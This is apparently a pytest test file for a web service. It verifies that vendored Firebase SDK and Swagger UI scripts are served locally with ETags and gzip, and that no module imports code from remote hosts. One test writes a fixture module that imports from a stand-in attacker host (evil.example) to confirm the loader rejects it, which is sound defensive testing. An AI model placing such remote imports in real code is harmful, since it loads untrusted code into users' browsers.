"""Browser code served from this machine, never a CDN: the Firebase Web SDK's modules (their
import of each other pointed here), Swagger UI at /schema, with ETags and gzip; the reader's own
URL; and what is served when the packages are not installed."""

from __future__ import annotations

import re

import httpx
import pytest

from service.api.app import create_app
from service.api.routes.web_page import DEFAULT_VENDOR_DIR, SWAGGER_UI, VENDOR_FILES, load_vendor
from tests.support.auth_emulator import required_in_ci

REMOTE = re.compile(r"""(?:from|import\s*\(?)\s*["']https?://""")


@pytest.fixture(scope="module")
def vendored():
    files = load_vendor(DEFAULT_VENDOR_DIR)
    if set(files) != set(VENDOR_FILES):
        required_in_ci("the browser packages are not installed: make web-vendor")
    return files


async def test_firebase_sdk_is_served_here_importing_nothing_from_elsewhere(client, vendored):
    app = await client.get("/web/vendor/firebase-app.js")
    auth = await client.get("/web/vendor/firebase-auth.js")

    assert app.status_code == auth.status_code == 200
    assert auth.headers["content-type"] == "text/javascript; charset=utf-8"
    assert 'from"./firebase-app.js"' in auth.text
    assert "www.gstatic.com/firebasejs" not in auth.text
    assert not REMOTE.search(auth.text)
    assert not REMOTE.search(app.text)
    assert "sourceMappingURL" not in auth.text


async def test_vendor_files_are_cached_and_compressed(client, vendored):
    plain = await client.get(
        "/web/vendor/swagger-ui-bundle.js", headers={"accept-encoding": "identity"}
    )
    packed = await client.get(
        "/web/vendor/swagger-ui-bundle.js", headers={"accept-encoding": "gzip"}
    )
    again = await client.get(
        "/web/vendor/swagger-ui-bundle.js", headers={"if-none-match": plain.headers["etag"]}
    )

    assert "content-encoding" not in plain.headers
    assert packed.headers["content-encoding"] == "gzip"
    assert int(packed.headers["content-length"]) < len(plain.content) / 2
    assert packed.content == plain.content  # httpx decoded it
    assert again.status_code == 304
    assert again.content == b""


async def test_api_docs_load_swagger_ui_from_this_api(client, vendored):
    for path in ("/schema", "/schema/swagger"):
        page = await client.get(path)

        assert page.status_code == 200
        scripts = re.findall(r"""(?:src|href)=["']([^"']+)""", page.text)
        assert "/web/vendor/swagger-ui-bundle.js" in scripts
        assert "/web/vendor/swagger-ui.css" in scripts
        assert [url for url in scripts if url.startswith("http")] == []
        assert "cdn.jsdelivr" not in page.text
    for name in SWAGGER_UI:
        assert (await client.get(f"/web/vendor/{name}")).status_code == 200


async def test_reader_url_is_the_page(client):
    page = await client.get("/books/book_1/chapters/527a857d/")
    reader = await client.get("/books/book_1/chapters/527a857d")
    index = await client.get("/")

    assert reader.status_code == 200
    assert reader.text == index.text
    assert reader.headers["content-security-policy"] == index.headers["content-security-policy"]
    assert page.status_code in (200, 404)


async def test_page_files_have_etags_and_gzip(client):
    first = await client.get("/web/app.js", headers={"accept-encoding": "gzip"})
    again = await client.get("/web/app.js", headers={"if-none-match": first.headers["etag"]})

    assert first.headers["content-encoding"] == "gzip"
    assert again.status_code == 304


async def test_without_the_packages_docs_say_how_to_install_them(settings, tmp_path):
    app = create_app(settings.model_copy(update={"web_vendor_dir": str(tmp_path)}))

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
        docs = await c.get("/schema/swagger")
        sdk = await c.get("/web/vendor/firebase-auth.js")
        config = (await c.get("/config.json")).json()

    assert docs.status_code == 200
    assert "make web-vendor" in docs.text
    assert "/schema/openapi.json" in docs.text
    assert sdk.status_code == 404
    assert config["firebase_sdk"] is False


def test_a_module_that_imports_from_elsewhere_is_not_served(tmp_path):
    sdk = tmp_path / "firebase"
    sdk.mkdir()
    (sdk / "firebase-app.js").write_text("export const a = 1;\n//# sourceMappingURL=x.map\n")
    (sdk / "firebase-auth.js").write_text('import{a}from"https://evil.example/x.js";export{a};')

    files = load_vendor(tmp_path)

    assert files == {}  # not the auth module, and so not the SDK at all
